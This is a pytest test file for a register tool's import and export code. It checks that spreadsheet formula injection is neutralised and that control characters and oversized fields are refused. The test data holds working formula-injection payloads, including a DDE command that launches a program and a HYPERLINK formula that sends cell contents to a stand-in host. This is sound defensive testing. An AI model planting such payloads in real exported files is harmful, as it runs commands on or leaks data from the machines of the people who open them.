"""Hostile text in imports and exports (issue #16, items 1 and 10).

Exports: a value that a spreadsheet would run as a formula (``=HYPERLINK(...)``,
``=cmd|' /C calc'!A0``, from a trade file's reference or a counterparty field) is a string
cell in XLSX and a quoted field in CSV, and an exported file imported again gives back
the very values. Imports: a control character or an oversized field refuses the file,
naming file, line and field, and nothing is written.
"""

from __future__ import annotations

import csv
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import pytest

from kuzet.cli import run
from kuzet.registers.errors import ImportRejected
from kuzet.registers.listing import ListQuery
from kuzet.registers.mining import venues
from kuzet.registers.monitoring import transactions
from kuzet.registers.monitoring.transaction_listing import TransactionListing
from kuzet.registers.tabular import read_rows, text_limits, write_table
from kuzet.store.session import Store
from support.monitoring_data import RESIDENT_IIN, TODAY, desk, make_customers, row, write_csv

HYPERLINK = '=HYPERLINK("http://x"&A1)'
DDE = "=cmd|' /C calc'!A0"
NASTY = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'=already quoted"]
TRADES = "date,coin,amount,price,currency,venue,reference"
CUSTOMERS = "kind,name,iin_bin,citizenship,residence,address,purpose"


def csv_fields(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def table_count(db: Path, table: str) -> int:
    with sqlite3.connect(db) as con:
        return con.execute(f"SELECT count(*) FROM {table}").fetchone()[0]


@pytest.fixture
def db(db_file: Path) -> Path:
    store, _ = Store.open(db_file)
    with store.transaction() as session:
        venues.create(session, {"name": "Nomad OTC", "aifc_status": "none"})
    store.close()
    return db_file


def trades_file(path: Path, references: list[str]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(TRADES.split(","))
        for day, reference in enumerate(references, start=1):
            writer.writerow(
                [f"2025-01-{day:02d}", "BTC", "0.5", "45000000", "KZT", "Nomad OTC", reference]
            )
    return path


# --- item 1: formula injection -----------------------------------------------------------


def test_trade_references_export_as_text_in_xlsx_and_neutralised_in_csv(
    db: Path, tmp_path: Path, capsys
) -> None:
    trades = trades_file(tmp_path / "trades.csv", [HYPERLINK, DDE])
    assert run(["--db", str(db), "import", "sales", str(trades)]) == 0
    xlsx, plain = tmp_path / "sales.xlsx", tmp_path / "sales.csv"
    assert run(["--db", str(db), "export", "sales", str(xlsx)]) == 0
    assert run(["--db", str(db), "export", "sales", str(plain)]) == 0
    capsys.readouterr()

    sheet = openpyxl.load_workbook(xlsx).active
    cells = {c.value: c for r in sheet.iter_rows() for c in r if c.value in (HYPERLINK, DDE)}
    assert set(cells) == {HYPERLINK, DDE}
    assert {c.data_type for c in cells.values()} == {"s"}  # strings, never formulas
    assert all(c.quotePrefix for c in cells.values())  # and kept text when edited
    with zipfile.ZipFile(xlsx) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml

    fields = [f for r in csv_fields(plain) for f in r]
    assert "'" + HYPERLINK in fields and "'" + DDE in fields
    assert HYPERLINK not in fields and DDE not in fields
    assert not [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r")]

    # both files read back give the references exactly as the trade file had them
    for path in (xlsx, plain):
        header = next(iter(csv_fields(plain)))
        reference = next(h for h in header if "eference" in h)
        rows = read_rows(path, [reference], [reference])
        assert [r.get(reference) for r in rows] == [HYPERLINK, DDE]


def test_a_transactions_export_imported_again_gives_back_the_same_values(
    tmp_path: Path,
) -> None:
    first, _ = Store.open(tmp_path / "a.sqlite")
    second, _ = Store.open(tmp_path / "b.sqlite")
    try:
        make_customers(first)
        make_customers(second)
        rows = [
            row(
                TODAY,
                RESIDENT_IIN,
                "in",
                "100",
                "0.2",
                counterparty_provider=HYPERLINK,
                originator_name=DDE,
                reference="R1",
            ),
            row(
                TODAY,
                RESIDENT_IIN,
                "in",
                "100",
                "0.2",
                beneficiary_name="@SUM(A1:A9)",
                originator_id="-2+3",
                reference="=R2",
            ),
        ]
        desk(first).import_transactions(write_csv(tmp_path / "in.csv", rows))
        for suffix in (".csv", ".xlsx"):
            out = tmp_path / f"out{suffix}"
            with first.reading() as session:
                ids = TransactionListing().ids(session, ListQuery(sort="id"))
                assert transactions.export(session, out, ids) == 2
            if suffix == ".csv":
                fields = [f for r in csv_fields(out) for f in r]
                assert "'" + HYPERLINK in fields and "'=R2" in fields and "'-2+3" in fields
            back = read_rows(
                out,
                [
                    "counterparty_provider",
                    "originator_name",
                    "beneficiary_name",
                    "originator_id",
                    "reference",
                ],
            )
            assert back[0].get("counterparty_provider") == HYPERLINK
            assert back[0].get("originator_name") == DDE
            assert back[1].get("beneficiary_name") == "@SUM(A1:A9)"
            assert back[1].get("originator_id") == "-2+3"
            assert [r.get("reference") for r in back] == ["R1", "=R2"]
        # and a real import of the exported CSV into another database stores them as such
        assert desk(second).import_transactions(tmp_path / "out.csv").count == 2
        with sqlite3.connect(tmp_path / "b.sqlite") as con:
            stored = con.execute(
                "SELECT counterparty_provider, originator_name, beneficiary_name, reference "
                'FROM "transaction" ORDER BY id'
            ).fetchall()
        assert stored[0][:2] == (HYPERLINK, DDE) and stored[1][2:] == ("@SUM(A1:A9)", "=R2")
    finally:
        first.close()
        second.close()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_every_value_round_trips_through_an_export(tmp_path: Path, suffix: str) -> None:
    values = [*NASTY, "''@two quotes", "'plain quote", "-5.00", "+7", "-0.5", "plain", "a'=b"]
    out = tmp_path / f"t{suffix}"
    assert write_table(out, ["value", "n"], [(v, i) for i, v in enumerate(values)]) == len(values)
    assert [r.get("value") for r in read_rows(out, ["value"])] == values
    if suffix == ".csv":
        written = [r[0] for r in csv_fields(out)[1:]]
        assert written[:6] == ["'" + v for v in NASTY]
        assert written[6:10] == ["'''@two quotes", "'plain quote", "-5.00", "+7"]  # numbers stay


def test_old_data_with_a_control_character_still_exports(tmp_path: Path) -> None:
    """A NUL stored before imports refused it no longer crashes the XLSX export."""
    out = tmp_path / "old.xlsx"
    assert write_table(out, ["name"], [("Ivan\x00ov",), ("=1+1",)]) == 2
    sheet = openpyxl.load_workbook(out).active
    assert [c.value for c in sheet["A"]] == ["name", "Ivan\ufffdov", "=1+1"]
    assert sheet["A3"].data_type == "s"


# --- item 10: bad text is refused ---------------------------------------------------------


@pytest.mark.sqlite_only
def test_a_nul_in_a_customer_name_is_refused_naming_line_and_field(
    db_file: Path, tmp_path: Path, capsys
) -> None:
    path = tmp_path / "customers.csv"
    path.write_bytes(
        (
            f"{CUSTOMERS}\n"
            f"individual,Смирнова Ольга,{RESIDENT_IIN},KZ,KZ,Алматы,OTC\n"
            f"individual,Ivan\x00ov Ivan,,DE,DE,Berlin,OTC\n"
            f"individual,Petrov\x1b[2J,,DE,DE,Berlin,OTC\n"
        ).encode()
    )
    assert run(["--db", str(db_file), "import", "customers", str(path)]) == 1
    err = capsys.readouterr().err
    assert "nothing was imported" in err
    assert "customers.csv, line 3, field name: holds the control character U+0000" in err
    assert "customers.csv, line 4, field name: holds the control character U+001B" in err
    assert "Traceback" not in err
    assert table_count(db_file, "customer") == 0


def test_control_characters_in_an_xlsx_are_refused_too(tmp_path: Path) -> None:
    path = tmp_path / "bank.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["kind", "name"])
    book.active.append(["individual", "Ivan\x7fov"])  # DEL: legal in XML, not in a name
    book.save(path)
    with pytest.raises(ImportRejected) as caught:
        read_rows(path, ["kind", "name"])
    assert [str(p) for p in caught.value.problems] == [
        "bank.xlsx, line 2, field name: holds the control character U+007F"
    ]


def test_tab_and_newlines_inside_a_field_are_text(tmp_path: Path) -> None:
    path = tmp_path / "ok.csv"
    path.write_text('kind,address\nindividual,"Line 1\r\nLine 2\tflat 3"\n', encoding="utf-8")
    assert read_rows(path, ["kind", "address"])[0].get("address") == "Line 1\r\nLine 2\tflat 3"


@pytest.mark.sqlite_only
def test_an_oversized_name_is_refused_and_nothing_is_stored(
    db_file: Path, tmp_path: Path, capsys
) -> None:
    before = table_count(db_file, "audit_trail") if db_file.exists() else 0
    limit = text_limits()["default"]
    assert text_limits()["notes"] > limit  # free text may be longer than a name
    long_name = "Ж" * (limit + 1)
    path = tmp_path / "long.csv"
    path.write_text(
        f"{CUSTOMERS},notes\n"
        f"individual,{long_name},,DE,DE,Berlin,OTC,{'n' * limit}\n",  # a long note is fine
        encoding="utf-8",
    )
    assert run(["--db", str(db_file), "import", "customers", str(path)]) == 1
    err = capsys.readouterr().err
    assert f"long.csv, line 2, field name: {limit + 1:,} characters: at most {limit:,}" in err
    assert "notes" not in err

    huge = tmp_path / "huge.csv"  # 10 MB in one name
    huge.write_text(
        f"{CUSTOMERS}\nindividual,{'A' * 10_000_000},,DE,DE,Berlin,OTC\n", encoding="utf-8"
    )
    assert run(["--db", str(db_file), "import", "customers", str(huge)]) == 1
    err = capsys.readouterr().err
    assert "huge.csv, line 2: a field on this line is longer than" in err
    assert "Traceback" not in err and len(err) < 2000
    assert table_count(db_file, "customer") == 0
    assert table_count(db_file, "audit_trail") == before


@pytest.mark.sqlite_only
def test_a_bad_trade_file_writes_nothing_in_either_import_path(
    db: Path, tmp_path: Path, capsys, monkeypatch
) -> None:
    """The mining reader (in-process, and the checker process for big files) refuses it."""
    from kuzet.registers.mining import import_checker

    before = table_count(db, "audit_trail")
    trades = trades_file(tmp_path / "trades.csv", ["T1", "T2\x00", "T3"])
    assert run(["--db", str(db), "import", "sales", str(trades)]) == 1
    err = capsys.readouterr().err
    assert "trades.csv, line 3, field reference: holds the control character U+0000" in err
    assert table_count(db, "sale") == 0 and table_count(db, "audit_trail") == before

    # A big file is read by a checker process: it stops at the bad text, and the file is
    # checked again in-process so the message names the line and field; nothing is kept.
    monkeypatch.setattr(import_checker, "FROM_LINES", 0)
    assert run(["--db", str(db), "import", "sales", str(trades)]) == 1
    err = capsys.readouterr().err
    assert "trades.csv, line 3, field reference: holds the control character U+0000" in err
    assert "Traceback" not in err
    assert table_count(db, "sale") == 0 and table_count(db, "audit_trail") == before


def test_the_limit_comes_from_the_rule_pack_and_a_mapping_names_the_field(
    tmp_path: Path,
) -> None:
    path = tmp_path / "bank.csv"
    path.write_text("Тип,Примечание\nindividual," + "x" * 30 + "\n", encoding="utf-8")
    mapping = {"kind": "Тип", "notes": "Примечание"}
    assert read_rows(path, ["kind", "notes"], mapping=mapping)[0].get("notes") == "x" * 30
    with pytest.raises(ImportRejected) as caught:
        read_rows(path, ["kind", "notes"], mapping=mapping, limits={"default": 50, "notes": 20})
    assert [str(p) for p in caught.value.problems] == [
        "bank.csv, line 2, field Примечание: 30 characters: at most 20 allowed"
    ]
